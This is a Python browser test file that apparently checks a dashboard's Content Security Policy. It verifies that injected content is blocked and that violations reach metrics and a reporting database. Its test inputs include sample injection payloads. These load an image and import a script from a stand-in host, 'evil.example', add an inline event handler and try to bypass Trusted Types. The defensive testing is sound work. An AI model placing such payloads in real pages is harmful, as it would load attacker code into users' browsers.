"""Browsers report what was injected into a page, and nothing of pages as they are."""

from __future__ import annotations

import re
import sqlite3
import time
from contextlib import closing

import pytest
import requests

from tests.browser.test_every_page import PAGES, real
from tests.certificates import issue
from tests.infrastructure.browser import ARGUMENTS, _executable
from tests.infrastructure.processes import Site

INJECTED = {
    "img-src": "document.body.append(Object.assign(new Image(), {src: 'https://evil.example/x.png'}))",
    "script-src-elem": "import('https://evil.example/x.js').catch(() => {})",
    "script-src-attr": "document.body.insertAdjacentHTML('beforeend', '<b onclick=\"window.ran = true\">x</b>')",
    "style-src-attr": "document.body.insertAdjacentHTML('beforeend', '<b style=\"color: red\">x</b>')",
    "require-trusted-types-for": """() => {
        const script = document.createElement("script");
        const text = "window.ran = true";
        for (const attempt of [() => script.src = "/static/x.js", () => script.text = text]) {
            try { attempt() } catch {}
        }
        document.body.append(script);
    }""",
}
LISTEN = """window.violated = [];
document.addEventListener("securitypolicyviolation", (event) => window.violated.push(event.effectiveDirective));"""


def reported(url: str) -> set[str]:
    figures = requests.get(f"{url}/metrics", timeout=20).text
    return set(re.findall(r'^dashboard_page_violations_last_day\{directive="([^"]+)"\}', figures, re.MULTILINE))


@pytest.mark.process
def test_what_is_injected_into_a_page_does_nothing_and_is_reported(start_site, new_page):
    site = start_site(worker=False)
    page = new_page(base_url=site.url, allow=("Content Security Policy", "Trusted", "TrustedScript"))
    page.goto("/login?next=/applications%3Fq%3DAda+Quill")
    for attempt in INJECTED.values():
        page.evaluate(attempt)
    page.locator("b").first.click()
    deadline = time.monotonic() + 120
    while reported(site.url) != set(INJECTED) and time.monotonic() < deadline:
        time.sleep(0.2)
    assert reported(site.url) == set(INJECTED)
    assert page.evaluate("window.ran") is None
    assert "Quill" not in site.log


@pytest.mark.process
def test_over_https_they_come_by_the_newer_way(start_site, browser, tmp_path):
    issued = issue(tmp_path / "tls", "127.0.0.1")
    site = start_site(worker=False, tls=issued.tls)
    # Chromium gathers such reports for a minute, and sends none to a certificate that nobody vouches for.
    hurried = [*ARGUMENTS, "--short-reporting-delay", "--ignore-certificate-errors"]
    chromium = browser.browser_type.launch(executable_path=_executable(), args=hurried)
    page = chromium.new_page(base_url=site.url)
    page.goto("/login?next=/applications%3Fq%3DAda+Quill")
    page.evaluate(INJECTED["img-src"])
    deadline = time.monotonic() + 120
    while not (told := counted(site)) and time.monotonic() < deadline:
        time.sleep(0.2)
    chromium.close()
    assert told == [("page:img-src", "/login", 1)]


def counted(site: Site) -> list[tuple[str, str, int]]:
    with closing(sqlite3.connect(site.folder / "dashboard.db")) as database:
        return database.execute("SELECT reason, remote_addr, count FROM refusal").fetchall()


def test_no_page_as_it_is_gives_cause_for_a_report(open_as, inhabited):
    for who, paths in PAGES.items():
        page = open_as(who, "/login", allow=("status of 40[34]",))
        page.context.add_init_script(LISTEN)
        for path in paths:
            page.goto(real(path, inhabited))
            assert page.evaluate("window.violated") == [], path
    assert reported(inhabited.url) == set()
